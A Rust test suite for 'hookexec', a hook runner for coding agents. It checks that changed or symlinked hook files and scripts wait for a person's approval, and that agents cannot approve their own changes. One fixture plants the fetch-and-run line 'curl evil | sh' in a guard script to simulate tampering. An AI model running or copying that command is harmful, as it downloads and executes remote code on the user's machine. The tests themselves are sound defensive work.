//! What an approval covers, and who may give it.

use std::fs;

use serde_json::{Value, json};

use super::support::Sandbox;
use super::terminal::Terminal;

const HOOKS: &str = "
pre_tool_use:
  - matcher: shell
    hooks: [{ type: command, command: sh ./guard.sh }]
";
const CALL: &str = r#"{"tool_name":"shell","tool_input":{"cmd":"ls"}}"#;

fn project() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write("hooks.yaml", HOOKS);
    sandbox.write("guard.sh", "echo '{\"decision\":\"allow\"}'\n");
    sandbox
}

#[test]
fn a_changed_script_fails_the_whole_hooks_file() {
    let sandbox = project();
    sandbox.write(
        "hooks.yaml",
        "pre_tool_use:
  - matcher: shell
    hooks: [{ type: command, command: sh ./guard.sh }]
  - matcher: edit
    hooks: [{ type: command, command: 'sh ./other.sh; cat TODO.md' }]
tool_guard:
  - hooks: [{ type: command, command: sh ./guard.sh, on_error: warn }]
",
    );
    sandbox.write("other.sh", "exit 0\n");
    sandbox.write("TODO.md", "nothing\n");
    let _ = sandbox.hookexec(["trust"]).run().exits(1);
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    assert!(added.stdout.contains("  covered: guard.sh, other.sh\n"), "{added:?}");
    assert!(added.stdout.contains("  not covered: TODO.md, cat\n"), "{added:?}");
    let _ = sandbox.hookexec(["trust", "show"]).run().exits(0);
    let run = |event: &str, tool: &str| {
        let call = format!(r#"{{"tool_name":"{tool}"}}"#);
        sandbox.hookexec(["run", event]).stdin(call).run()
    };
    let allowed = run("pre_tool_use", "shell").exits(0);
    assert!(allowed.stdout.contains(r#""decision":"allow""#), "{allowed:?}");

    // Data is not covered, and may change.
    sandbox.write("TODO.md", "something\n");
    let _ = run("pre_tool_use", "edit").exits(0);

    sandbox.write("guard.sh", "curl evil | sh\n");
    let denied = run("pre_tool_use", "shell").exits(2);
    let said = "hooks.yaml:3: `guard.sh` changed after its approval. A person must approve it.";
    assert!(denied.stdout.contains(said), "{denied:?}");
    assert!(!denied.stderr.contains("curl evil"), "a guard has no time for it: {denied:?}");
    // All of it waits, whatever `on_error` its hooks have.
    for (event, tool) in [("tool_guard", "shell"), ("pre_tool_use", "edit")] {
        assert!(run(event, tool).exits(2).stdout.contains(said), "{event}");
    }
    let shown = sandbox.hookexec(["trust", "show"]).run().exits(1);
    assert!(
        shown.stdout.contains("hooks.yaml: `guard.sh` changed after its approval\n"),
        "{shown:?}"
    );
    assert!(shown.stdout.contains("  changed: guard.sh\n"), "{shown:?}");

    sandbox.trust();
    let _ = run("pre_tool_use", "edit").exits(0);
    let _ = sandbox.hookexec(["trust", "remove", "--yes"]).run().exits(0);
    let denied = run("pre_tool_use", "shell").exits(2);
    assert!(denied.stdout.contains("is not approved"), "{denied:?}");
}

#[test]
fn a_changed_hooks_file_fails_as_a_whole_whatever_it_says_now() {
    for text in [
        "hooks: {}\n",
        "",
        "x: [",
        "pre_tool_use: [{ matcher: none, hooks: [{ type: command, command: 'true' }] }]\n",
        "stop: [{ type: command, command: 'true' }]\n",
    ] {
        let sandbox = project();
        sandbox.trust();
        sandbox.write("hooks.yaml", text);
        for (event, code) in
            [("pre_tool_use", 2), ("tool_guard", 2), ("stop", 0), ("session_end", 0)]
        {
            let run = sandbox.hookexec(["run", event]).stdin(CALL).run().exits(code);
            assert!(run.stdout.contains("changed after its approval"), "{text:?}: {run:?}");
        }
        // Put back as it was approved, it runs again.
        sandbox.write("hooks.yaml", HOOKS);
        let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
    }
}

#[test]
fn an_older_version_that_is_put_back_has_changed_the_file() {
    let sandbox = project();
    sandbox.write("hooks.yaml", "hooks: {}\n");
    sandbox.trust();
    sandbox.write("hooks.yaml", HOOKS);
    sandbox.trust();
    sandbox.write("hooks.yaml", "hooks: {}\n");
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("changed after its approval"), "{run:?}");
}

#[test]
fn a_link_does_not_switch_an_approved_file_off() {
    const DENY: &str = "
pre_tool_use:
  - hooks: [{ type: command, command: 'exit 2' }]
";
    type Attack = fn(&Sandbox);
    let attacks: [(&str, Attack); 4] = [
        ("the file", |it| {
            it.write("e.yaml", "hooks: {} # linked\n");
            relink(it, "e.yaml", "hooks.yaml");
        }),
        ("its directory", |it| {
            let project = it.project();
            fs::rename(project.join(".hookexec"), project.join("h2")).unwrap();
            it.write("h2/hooks.yaml", "hooks: {} # moved\n");
            relink(it, "h2", ".hookexec");
        }),
        ("a link to another approved file", |it| {
            relink(it, ".hookexec/hooks.d/a.yaml", ".hookexec/hooks.yaml");
            relink(it, ".hookexec/hooks.d/a.yaml", "hooks.yaml");
        }),
        ("a link to a file of the user", |it| {
            let user = it.write_users_hooks("hooks: {}\n");
            relink(it, user.to_str().unwrap(), "hooks.yaml");
        }),
    ];
    for (what, attack) in attacks {
        let sandbox = Sandbox::new();
        sandbox.write(".hookexec/hooks.d/a.yaml", "stop: [{ type: command, command: 'true' }]\n");
        sandbox.write(".hookexec/hooks.yaml", DENY);
        sandbox.write("hooks.yaml", DENY);
        sandbox.trust();
        if what == "its directory" {
            // Only the file below the directory is left to deny.
            sandbox.write("hooks.yaml", "hooks: {}\n");
            sandbox.trust();
        }
        attack(&sandbox);
        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
        assert!(run.stdout.contains("is a symbolic link"), "{what}: {run:?}");
    }
}

/// Puts a link to `target` in the place of the project's file `name`.
fn relink(sandbox: &Sandbox, target: &str, name: &str) {
    let link = sandbox.project().join(name);
    let _ = fs::remove_file(&link);
    let target =
        if target.starts_with('/') { target.into() } else { sandbox.project().join(target) };
    std::os::unix::fs::symlink(target, link).unwrap();
}

#[test]
fn a_project_that_is_reached_through_a_link_has_the_same_approvals() {
    let sandbox = project();
    sandbox.write(".hookexec/hooks.yaml", "stop: [{ type: command, command: 'true' }]\n");
    let link = sandbox.home().join("link");
    std::os::unix::fs::symlink(sandbox.project(), &link).unwrap();
    let trust = |action: &str, file: &str| {
        let args = ["trust", action, "--yes", file];
        let _ = sandbox.hookexec(args).current_dir(&link).run().exits(0);
    };
    trust("add", link.join("hooks.yaml").to_str().unwrap());
    trust("add", ".hookexec/hooks.yaml");
    for directory in [link.clone(), sandbox.project()] {
        let run = sandbox.hookexec(["run", "pre_tool_use"]).current_dir(&directory).stdin(CALL);
        let _ = run.run().exits(0);
        sandbox.write(".hookexec/hooks.yaml", "hooks: {}\n");
        let run = sandbox.hookexec(["run", "pre_tool_use"]).current_dir(&directory).stdin(CALL);
        assert!(run.run().exits(2).stdout.contains("changed after its approval"));
        sandbox.write(".hookexec/hooks.yaml", "stop: [{ type: command, command: 'true' }]\n");
    }
    trust("remove", link.join("hooks.yaml").to_str().unwrap());
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("is not approved"), "{run:?}");
}

#[test]
fn a_link_with_the_approved_bytes_is_refused() {
    for name in ["hooks.yaml", ".hookexec", ".hookexec/hooks.d", ".hookexec/hooks.d/a.yaml"] {
        let sandbox = Sandbox::new();
        sandbox.write("hooks.yaml", "stop: [{ type: command, command: touch ran }]\n");
        sandbox
            .write(".hookexec/hooks.d/a.yaml", "stop: [{ type: command, command: touch ran.d }]\n");
        sandbox.trust();
        let _ = sandbox.hookexec(["run", "stop"]).stdin("{}").run().exits(0);
        for ran in ["ran", "ran.d"] {
            fs::remove_file(sandbox.project().join(ran)).unwrap();
        }
        fs::rename(sandbox.project().join(name), sandbox.project().join("moved")).unwrap();
        relink(&sandbox, "moved", name);
        let _ = sandbox.hookexec(["run", "stop"]).stdin("{}").run();
        let linked = if name == "hooks.yaml" { "ran" } else { "ran.d" };
        assert!(!sandbox.project().join(linked).exists(), "{name}");
        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
        let said = format!("{name}` is a symbolic link: a project's hooks are not read through");
        assert!(run.stdout.contains(&said), "{name}: {run:?}");
        assert!(run.stdout.contains("put what it leads to in its place"), "{run:?}");
    }
}

#[test]
fn a_file_whose_approval_cannot_be_looked_up_fails_as_a_whole() {
    let sandbox = project();
    sandbox.trust();
    sandbox.write("hooks.yaml", "hooks: {}\n");
    let state = sandbox.project().join("st");
    for event in ["pre_tool_use", "tool_guard"] {
        let run = sandbox.hookexec(["run", event]).env("XDG_STATE_HOME", &state).stdin(CALL);
        let run = run.run().exits(2);
        assert!(run.stdout.contains("can't count as approved"), "{run:?}");
    }
}

#[test]
fn an_approved_file_that_is_gone_is_reported_at_every_event() {
    let sandbox = project();
    sandbox.write(".hookexec/hooks.d/a.yaml", "stop: [{ type: command, command: 'true' }]\n");
    sandbox.trust();
    let gone = |file: &str| {
        for event in ["pre_tool_use", "session_end"] {
            let run = sandbox.hookexec(["run", event]).stdin(CALL).run().exits(0);
            let said = format!("{file}: this approved file is gone; its hooks don't run");
            assert!(run.stdout.contains(&said), "{run:?}");
            assert!(run.stderr.contains("hookexec trust remove"), "{run:?}");
        }
    };
    let users = sandbox.write(
        sandbox.home().join(".config/hookexec/hooks.yaml"),
        "pre_tool_use: [{ hooks: [{ type: rule, ask: sure?, commands: [git push] }] }]\n",
    );
    fs::remove_file(sandbox.project().join(".hookexec/hooks.d/a.yaml")).unwrap();
    // Nobody waits for its answer to what another hook asks.
    let push = json!({ "tool_name": "Bash", "tool_input": { "command": "git push" } }).to_string();
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(push).run().exits(3);
    assert!(run.stdout.contains("sure?"), "{run:?}");
    fs::remove_file(users).unwrap();
    gone("[SANDBOX]/project/.hookexec/hooks.d/a.yaml");
    fs::remove_file(sandbox.project().join("hooks.yaml")).unwrap();
    gone("[SANDBOX]/project/hooks.yaml");
    let shown = sandbox.hookexec(["trust"]).run().exits(1);
    assert!(shown.stdout.contains("hooks.yaml: this approved file is gone"), "{shown:?}");
    let advice = "restore hooks.yaml, or run `hookexec trust remove hooks.yaml`";
    assert!(shown.stderr.contains(advice), "{shown:?}");
    assert!(!shown.stderr.contains("trust add"), "{shown:?}");
    let check = sandbox.hookexec(["check"]).run().exits(78);
    assert!(check.stderr.contains("this approved file is gone"), "{check:?}");
    assert_eq!(check.stdout, "0 hooks in 0 files: 1 error, 2 warnings\n");
    let _ = sandbox.hookexec(["trust", "remove", "--yes"]).run().exits(0);
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
    assert!(run.stdout.contains(r#""hooks":[]"#), "{run:?}");
}

#[test]
fn nothing_of_an_unapproved_file_is_evaluated() {
    let sandbox = Sandbox::new();
    let regex = "{ field: a, regex: '(?s)[a-z].{7000}X1' }";
    let slow: Vec<String> = (0..20)
        .map(|n| format!("- {{ when: {regex}, type: command, command: 'true {n}' }}\n"))
        .collect();
    let input = format!(r#"{{"a":"{}"}}"#, "x".repeat(60_000));
    for text in [
        format!("stop:\n{}", slow.concat()),
        format!("stop: {{ type: command, command: {:?} }}", "${".repeat(200_000)),
        format!("stop: {{ type: command, command: {:?} }}", "many/f*x ".repeat(2_000)),
        "stop: [{ type: command, command: a, when: { field: a, regex: '(' } }]".to_owned(),
    ] {
        sandbox.write("hooks.yaml", &text);
        let started = std::time::Instant::now();
        let run = sandbox.hookexec(["run", "stop"]).stdin(input.as_str()).run().exits(0);
        assert!(run.stdout.contains("is not approved"), "{run:?}");
        // Evaluating the first two takes from 12 seconds to minutes.
        assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
    }
}

#[test]
fn only_a_person_approves() {
    let sandbox = project();
    let refused = sandbox.hookexec(["trust", "add"]).run().exits(64);
    assert!(refused.stderr.contains("stdin is not a terminal"), "{refused:?}");
    for name in ["CLAUDECODE", "CODEX_SANDBOX", "GEMINI_CLI", "COPILOT_CLI", "OPENCODE"] {
        for action in ["add", "remove"] {
            let run = sandbox.hookexec(["trust", action, "--yes"]).env(name, "1").run().exits(64);
            assert!(run.stderr.contains("a coding agent runs this command"), "{run:?}");
        }
    }
    for change in [
        "install claude-code",
        "uninstall claude-code",
        "init never",
        "init --user never",
        "init --remove never",
        "init --from codex:x --user",
        "init --from codex:x --output y",
    ] {
        let run = sandbox.hookexec(change.split(' ')).env("CLAUDECODE", "1").run().exits(64);
        assert!(run.stderr.contains("a coding agent runs this command"), "{run:?}");
    }
    let denied = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(denied.stdout.contains("is not approved"), "{denied:?}");

    // At a terminal nothing but `yes` is a yes.
    for (typed, code) in [("no", 1), ("y", 1), ("", 1), ("yes", 0)] {
        let (status, shown) = at_a_terminal(&sandbox, &["trust", "add"], typed);
        assert_eq!(status, code, "{shown}");
        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
        let _ = run.exits(if code == 0 { 0 } else { 2 });
    }
    assert_eq!(at_a_terminal(&sandbox, &["trust", "remove"], "no").0, 1);
    assert_eq!(at_a_terminal(&sandbox, &["trust", "remove"], "yes").0, 0);
    let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);

    // The file changes while its reader thinks.
    let mut terminal = Terminal::open(&sandbox, &["trust", "add"]);
    assert!(terminal.shows_or_ends("Type `yes`:"));
    sandbox.write("hooks.yaml", &(sandbox.read("hooks.yaml") + "# edited\n"));
    terminal.types("yes");
    let (status, shown) = terminal.ends();
    assert!(status == 1 && shown.contains("waits again"), "{status}: {shown}");
}

#[test]
fn an_agent_may_write_the_rules_that_init_brings() {
    let sandbox = Sandbox::new();
    for (code, says) in [(0, "wrote hooks.yaml"), (64, "is there already")] {
        let init = sandbox.hookexec(["init", "--user"]).env("CLAUDE_PROJECT_DIR", "x");
        let done = init.run().exits(code);
        assert!((done.stdout + &done.stderr).contains(says));
    }
    let file = sandbox.home().join(".config/hookexec/hooks.yaml");
    let rules = std::fs::read_to_string(file).unwrap();
    assert!(rules.contains("deny: ") && !rules.contains("allow:"), "{rules}");
}

/// Runs `hookexec` at a terminal where somebody types one line, and returns its exit code and what
/// the terminal shows.
fn at_a_terminal(sandbox: &Sandbox, arguments: &[&str], line: &str) -> (i32, String) {
    let mut terminal = Terminal::open(sandbox, arguments);
    if terminal.shows_or_ends("Type `yes`:") {
        terminal.types(line);
    }
    terminal.ends()
}

#[test]
fn under_an_agent_a_model_does_not_approve_its_own_change() {
    let sandbox = Sandbox::new();
    let call_of = |tool: &str, command: &str| {
        let call = serde_json::json!({
            "hook_event_name": "PreToolUse", "cwd": sandbox.project(), "tool_name": tool,
            "tool_input": { "command": command },
        });
        let from = ["run", "--from", "claude-code", "--event", "PreToolUse"];
        sandbox.hookexec(from).stdin(call.to_string()).run().exits(0).stdout
    };
    let call = |command: &str| call_of("Bash", command);
    let answer = call_of("mcp__shell__run", "hookexec init --user --remove never");
    assert!(answer.contains("are for a person"), "{answer}");
    for command in [
        "hookexec trust add --yes",
        "cd x; /usr/bin/hookexec uninstall claude-code",
        "hookexec init --user never",
    ] {
        let answer = call(command);
        assert!(answer.contains(r#""permissionDecision":"deny""#), "{answer}");
        assert!(answer.contains("are for a person"), "{answer}");
    }
    for command in [
        "hookexec trust",
        "hookexec init",
        "hookexec init --user",
        "hookexec test --log audit.jsonl --config x",
    ] {
        assert!(!call(command).contains("deny"), "{command}");
    }
}

#[test]
fn a_tool_that_is_called_like_its_kind_does_not_approve_either() {
    let sandbox = Sandbox::new();
    for (agent, event) in
        [("codex", "PreToolUse"), ("kiro", "preToolUse"), ("cursor", "preToolUse")]
    {
        let call = serde_json::json!({
            "hook_event_name": event, "cwd": sandbox.project(), "tool_name": "shell",
            "workspace_roots": [sandbox.project()],
            "tool_input": { "command": "hookexec trust add --yes" },
        });
        let from = ["run", "--from", agent, "--event", event];
        let run = sandbox.hookexec(from).stdin(call.to_string()).run();
        assert!(run.whole().contains("are for a person"), "{agent}: {run:?}");
    }
}

#[test]
fn a_listed_file_outside_of_the_project_is_not_called_missing() {
    let sandbox = Sandbox::new();
    let outside = sandbox.home().join("words.txt");
    fs::write(&outside, "rm\n").unwrap();
    let hook = format!("{{ type: command, command: 'true', scripts: [{}] }}", outside.display());
    sandbox.write("hooks.yaml", &format!("pre_tool_use: [{{ hooks: [{hook}] }}]\n"));
    let refused = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(65);
    let said = "listed in `scripts:`, is outside of the project";
    assert!(refused.stderr.contains(said), "{refused:?}");
}

#[test]
fn a_script_that_is_listed_is_covered() {
    let sandbox = Sandbox::new();
    let hook = "{ type: command, command: make guard, scripts: [Makefile] }";
    sandbox.write("hooks.yaml", &format!("pre_tool_use: [{{ hooks: [{hook}] }}]\n"));
    let refused = sandbox.hookexec(["trust", "add", "--yes"]).run();
    let refused = refused.exits(65);
    let missing = "`Makefile`, listed in `scripts:`, is missing";
    let said = format!("error: hooks.yaml: {missing}");
    assert!(refused.stderr.contains(&said), "{refused:?}");
    // The question comes only if the file can be approved.
    assert!(at_a_terminal(&sandbox, &["trust", "add"], "yes").1.contains(&said));
    sandbox.write("Makefile", "guard:\n");
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    assert!(added.stdout.contains("  covered: Makefile\n"), "{added:?}");
    assert!(added.stdout.contains("  not covered: make\n"), "{added:?}");
    let shown = sandbox.hookexec(["trust"]).run().exits(0);
    for said in ["are covered only if `scripts:` lists them", "What is not covered may change"] {
        assert!(shown.stderr.contains(said), "{shown:?}");
    }
    for change in ["guard:\n\ttrue\n", ""] {
        sandbox.write("Makefile", change);
        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
        assert!(run.stdout.contains("`Makefile` changed after its approval"), "{run:?}");
        let shown = sandbox.hookexec(["trust"]).run().exits(1);
        assert!(
            shown.stdout.contains("hooks.yaml: `Makefile` changed after its approval\n"),
            "{shown:?}"
        );
    }
    fs::remove_file(sandbox.project().join("Makefile")).unwrap();
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    let gone = "`Makefile` was approved and is gone. A person must restore it.";
    assert!(run.stdout.contains(gone), "{run:?}");
    let restore = "restore `Makefile`, or take it out of `hooks.yaml` and run `hookexec trust add";
    assert!(run.stdout.contains(restore), "{run:?}");
    let check = sandbox.hookexec(["check"]).run().exits(0);
    assert!(check.stderr.contains(restore), "{check:?}");
    assert!(check.stderr.contains("is gone: its hooks fail"), "{check:?}");
    let shown = sandbox.hookexec(["trust"]).run().exits(1);
    assert!(
        shown.stdout.contains("hooks.yaml: `Makefile` was approved and is gone\n"),
        "{shown:?}"
    );
    let refused = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(65);
    assert!(refused.stderr.contains(missing), "{refused:?}");
    assert!(refused.stderr.contains("hint: restore or create it, or take it out"), "{refused:?}");

    // What a link in its place leads to counts.
    let link = sandbox.project().join("Makefile");
    std::os::unix::fs::symlink("hooks.yaml", &link).unwrap();
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("`Makefile` changed after its approval"), "{run:?}");

    // Restored, it counts as approved again.
    fs::remove_file(sandbox.project().join("Makefile")).unwrap();
    sandbox.write("Makefile", "guard:\n");
    let _ = sandbox.hookexec(["trust"]).run().exits(0);
}

#[test]
fn a_listed_file_that_is_missing_was_approved_only_if_an_approval_names_it() {
    let sandbox = Sandbox::new();
    let hook = |more: &str| format!("{{ type: command, command: 'true'{more} }}");
    let with = |more: &str| format!("pre_tool_use: [{{ hooks: [{}] }}]\n", hook(more));
    // Another clone brings the approval along, and not the file.
    let other = sandbox.home().join("other");
    fs::create_dir_all(other.join(".git")).unwrap();
    fs::write(other.join("hooks.yaml"), with(", scripts: [words.txt]")).unwrap();
    fs::write(other.join("words.txt"), "rm\n").unwrap();
    let added = sandbox.hookexec(["trust", "add", "--yes"]).current_dir(&other).run();
    let _ = added.exits(0);
    sandbox.write("hooks.yaml", &with(", scripts: [words.txt]"));
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("`words.txt` was approved and is gone"), "{run:?}");
    sandbox.write("hooks.yaml", &with(", scripts: [other.txt]"));
    let refused = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(65);
    assert!(refused.stderr.contains("restore or create it"), "{refused:?}");
}

#[test]
fn a_process_whose_script_changed_does_not_start() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "hooks.yaml",
        "processes: { gate: { command: [sh, ./gate.sh], start: eager } }
pre_tool_use: [{ hooks: [{ type: process, command: gate }] }]
",
    );
    sandbox.write("gate.sh", "exit 1\n");
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    assert!(added.stdout.contains("covered: gate.sh"), "{added:?}");
    sandbox.write("gate.sh", "touch started\n");
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("`gate.sh` changed after its approval"), "{run:?}");
    assert!(!sandbox.project().join("started").exists());
}

#[test]
fn without_a_home_the_users_hooks_are_where_the_variable_says() {
    let sandbox = Sandbox::new();
    let config = sandbox.home().join("config");
    fs::create_dir_all(config.join("hookexec")).unwrap();
    let text = "pre_tool_use: [{ hooks: [{ type: command, command: 'echo USER >&2; exit 2' }] }]\n";
    fs::write(config.join("hookexec/hooks.yaml"), text).unwrap();
    let run = sandbox.hookexec(["run", "pre_tool_use"]).env("HOME", "relative");
    let run = run.env("XDG_CONFIG_HOME", &config).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("USER"), "{run:?}");
    // With neither, the user's layer fails.
    let run = sandbox.hookexec(["run", "pre_tool_use"]).env("HOME", "relative");
    let run = run.env("XDG_CONFIG_HOME", "relative").stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("no home directory is known, so the user's hooks can't be found"));
}

/// A project whose guard is a script in the working directory, which denies.
fn guarded(command: &str) -> Sandbox {
    let sandbox = Sandbox::new();
    let hooks = format!("pre_tool_use: [{{ hooks: [{{ type: command, command: {command} }}] }}]\n");
    sandbox.write("hooks.yaml", &hooks);
    for file in ["check.js", "tools/check.js"] {
        sandbox.write(file, "console.error('DENIED'); process.exit(2)\n");
    }
    sandbox.trust();
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("DENIED"), "{run:?}");
    sandbox
}

#[test]
fn a_script_that_is_gone_fails_the_hooks_file() {
    for (command, file) in [
        ("node ./check.js", "check.js"),
        ("node check.js", "check.js"),
        ("[node, ./check.js]", "check.js"),
        ("node ./check.js, working_dir: tools", "tools/check.js"),
        ("'node \"$HOOKEXEC_CONFIG_DIR\"/check.js'", "check.js"),
        ("'true | node ./check.js'", "check.js"),
    ] {
        let sandbox = guarded(command);
        let path = sandbox.project().join(file);
        let refused = || {
            let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
            let said = format!("`{file}` was approved and is gone. A person must restore it.");
            assert!(run.stdout.contains(&said), "{command}: {run:?}");
        };
        fs::remove_file(&path).unwrap();
        refused();
        let shown = sandbox.hookexec(["trust"]).run().exits(1);
        let title = format!("hooks.yaml: `{file}` was approved and is gone\n");
        assert!(shown.stdout.contains(&title), "{command}: {shown:?}");
        assert!(!shown.stdout.contains("not covered: "), "{command}: {shown:?}");
        assert!(shown.stdout.contains(&format!("  gone: {file}\n")), "{command}: {shown:?}");
        assert!(!shown.stdout.contains("  covered: check.js"), "{command}: {shown:?}");
        // Neither a directory nor a link that leads nowhere is the script.
        fs::create_dir(&path).unwrap();
        refused();
        fs::remove_dir(&path).unwrap();
        std::os::unix::fs::symlink("/nonexistent", &path).unwrap();
        refused();
        fs::remove_file(&path).unwrap();
        // A person may approve that it is gone, and another script is not approved.
        sandbox.trust();
        let _ = sandbox.hookexec(["trust"]).run().exits(0);
        sandbox.write(file, "process.exit(0)\n");
        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
        assert!(run.stdout.contains(&format!("`{file}` is not approved")), "{run:?}");
    }
}

#[test]
fn the_question_shows_what_runs_and_hides_nothing() {
    let sandbox = Sandbox::new();
    let hooks = "pre_tool_use: [{ matcher: shell, hooks: [{ type: command, name: \"n\\e[8m\", command: \"sh './g\\e[2K.sh'\" }] }]";
    sandbox.write("hooks.yaml", hooks);
    sandbox.write("g\u{1b}[2K.sh", "exit 2\n");
    sandbox.trust();
    sandbox.write("g\u{1b}[2K.sh", "exit 0 # \u{1b}[2K\u{1b}[1A\u{9b}8m\n");
    let asked = at_a_terminal(&sandbox, &["trust", "add"], "no");
    assert!(asked.0 == 1 && asked.1.contains("  changed: g\u{fffd}[2K.sh"), "{asked:?}");
    assert!(asked.1.contains("  | pre_tool_use: [{ matcher: shell, "), "{asked:?}");
    assert!(asked.1.contains("command: \"sh './g\\e[2K.sh'\""), "{asked:?}");
    assert!(
        asked.1.contains("Files that these scripts read or load are covered only"),
        "{asked:?}"
    );
    assert!(!asked.1.contains(['\u{1b}', '\u{9b}']), "{asked:?}");
    let asked = at_a_terminal(&sandbox, &["trust", "remove"], "no");
    assert!(asked.1.contains("in every clone with the same bytes?"), "{asked:?}");
}

#[test]
fn the_question_shows_the_whole_file() {
    let sandbox = Sandbox::new();
    let hooks = "groups: { \"@ours\": [rm] }
audit: { path: audit.jsonl }

pre_tool_use:
  - hooks: # \u{202e}reversed
      - { type: rule, allow: true, commands: [\"@ours *\"], side_effects: none }
      - { type: command, command: ./gate }
";
    sandbox.write("hooks.yaml", hooks);
    let shown = sandbox.hookexec(["trust"]).run().exits(1).stdout;
    insta::assert_snapshot!(shown, @r#"
    hooks.yaml: this file is not approved
      | groups: { "@ours": [rm] }
      | audit: { path: audit.jsonl }
      |
      | pre_tool_use:
      |   - hooks: # \u{202e}reversed
      |       - { type: rule, allow: true, commands: ["@ours *"], side_effects: none }
      |       - { type: command, command: ./gate }
      missing (if one appears, the file waits): gate
    "#);
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0).stdout;
    assert!(added.contains("  | audit: { path: audit.jsonl }\n"), "{added}");
    let json = sandbox.hookexec(["trust", "show", "--format", "json"]).run().exits(0).stdout;
    let rows: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(rows[0]["text"], hooks, "{json}");
    let listed = sandbox.hookexec(["explain"]).run().exits(0).stdout;
    assert!(listed.contains("settings: allow, commands,"), "{listed}");
}

#[test]
fn a_changed_script_is_not_shown_as_covered() {
    let sandbox = project();
    sandbox.trust();
    sandbox.write("guard.sh", "exit 0\n");
    let shown = sandbox.hookexec(["trust"]).run().exits(1);
    assert!(shown.stdout.contains("  changed: guard.sh\n"), "{shown:?}");
    assert!(!shown.stdout.contains("  covered: guard.sh"), "{shown:?}");
}

#[test]
fn an_answer_is_asked_for_only_when_something_would_change() {
    let sandbox = project();
    let remove = at_a_terminal(&sandbox, &["trust", "remove"], "no");
    assert!(remove.0 == 0 && remove.1.contains("was not approved"), "{remove:?}");
    let add = at_a_terminal(&sandbox, &["trust", "add"], "yes");
    assert!(add.0 == 0 && !add.1.contains("may change without"), "{add:?}");
    assert!(add.1.contains("hooks.yaml: approved"), "{add:?}");
    assert_eq!(add.1.matches("  covered: guard.sh").count(), 1, "{add:?}");
    let add = at_a_terminal(&sandbox, &["trust", "add"], "no");
    assert!(add.0 == 0 && add.1.contains("hooks.yaml: already approved"), "{add:?}");
    let remove = at_a_terminal(&sandbox, &["trust", "remove"], "yes");
    let said = "not approved any longer, here and in every clone with the same bytes";
    assert!(remove.0 == 0 && remove.1.contains(said), "{remove:?}");
}

#[test]
fn a_script_beside_the_hooks_file_is_not_the_one_that_runs_below() {
    let sandbox = project();
    sandbox.trust();
    fs::create_dir(sandbox.project().join("below")).unwrap();
    let below = sandbox.hookexec(["trust", "show", "--cwd", "below"]).run();
    assert!(below.stdout.contains("the file waits): below/guard.sh\n"), "{below:?}");
    assert!(!below.stdout.contains("  covered: "), "{below:?}");
    let here = sandbox.hookexec(["trust"]).run().exits(0);
    assert!(here.stdout.contains("  covered: guard.sh\n"), "{here:?}");
}
